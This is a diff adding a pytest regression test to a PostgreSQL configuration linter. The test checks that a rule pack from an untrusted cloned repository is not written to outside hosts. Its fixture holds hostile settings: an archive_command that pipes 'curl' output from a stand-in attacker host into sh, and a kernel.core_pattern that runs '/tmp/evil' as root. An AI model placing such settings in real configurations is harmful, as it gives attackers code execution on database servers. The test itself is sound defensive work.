@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import json
 import os
+import shutil
 from pathlib import Path
 from typing import Any
 
@@ -303,3 +304,37 @@ def test_baseline_create_replaces_no_file_but_a_baseline_a_found_configuration_n
     (repository / "pgvet-baseline.json").unlink()  # and a new one made
     assert runner.invoke(app, ["baseline", "create", HOST]).exit_code == 0
     assert runner.invoke(app, ["baseline", "create", HOST, "-o", str(activate)]).exit_code == 0  # the user's word
+
+
+@pytest.mark.parametrize("setting", ['rules = ["pack"]', "[params.derived.work_mem_operations]\nnodes_per_query = 4"])
+def test_fix_write_applies_a_found_configurations_packs_only_to_its_repositorys_hosts(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, setting: str) -> None:
+    """`pgvet fix --write /etc/postgresql/16/main`, run as root from a cloned repository, applied the rule pack its
+    .pgvet.toml named: its fix wrote `archive_command = 'curl … | sh'` into the host's postgresql.conf and
+    `kernel.core_pattern = |/tmp/evil %p` into its sysctl.d, which run as postgres and as root."""
+    repository = tmp_path / "repository"
+    (repository / ".git").mkdir(parents=True)
+    (repository / "pack").mkdir()
+    (repository / "pack" / "ops.yaml").write_text(
+        "rules:\n  - id: OPS001\n    name: ops-archive\n    title: t\n    severity: warning\n    when: TRUE\n"
+        "    message: m\n    fix:\n      postgresql: {archive_command: \"curl -s http://evil.example/x | sh\"}\n"
+        "      sysctl: {kernel.core_pattern: \"|/tmp/evil %p\"}\n")
+    (repository / ".pgvet.toml").write_text(setting + "\n")
+    host = tmp_path / "etc-postgresql"
+    shutil.copytree(FIXTURES / "config-repo", host)
+    before = {path: path.read_bytes() for path in host.rglob("*") if path.is_file()}
+    monkeypatch.chdir(repository)
+    monkeypatch.setenv("PGVET_CACHE_DIR", str(tmp_path / "cache"))
+    result = runner.invoke(app, ["fix", "--write", str(host)])
+    assert result.exit_code == 2, result.output
+    assert result.stderr == (f"pgvet: error: {host}: outside the repository {repository}, whose configuration "
+                             f"{repository / '.pgvet.toml'} names rule packs or parameters: fix --write applies them "
+                             "to the repository's own hosts only (give it with --config to apply them here)\n")
+    assert {path: path.read_bytes() for path in host.rglob("*") if path.is_file()} == before
+    assert runner.invoke(app, ["fix", str(host)]).exit_code in (0, 1)  # printed, for the user to read
+    inside = repository / "hosts" / "db"
+    shutil.copytree(FIXTURES / "config-repo", inside)
+    result = runner.invoke(app, ["fix", "--write", "hosts/db"])  # the repository's own host: its own word
+    assert result.exit_code in (0, 1) and "wrote" in result.stderr, result.output
+    result = runner.invoke(app, ["fix", "--write", "--config", ".pgvet.toml", str(host)])  # the user's word
+    assert result.exit_code in (0, 1) and "wrote" in result.stderr, result.output
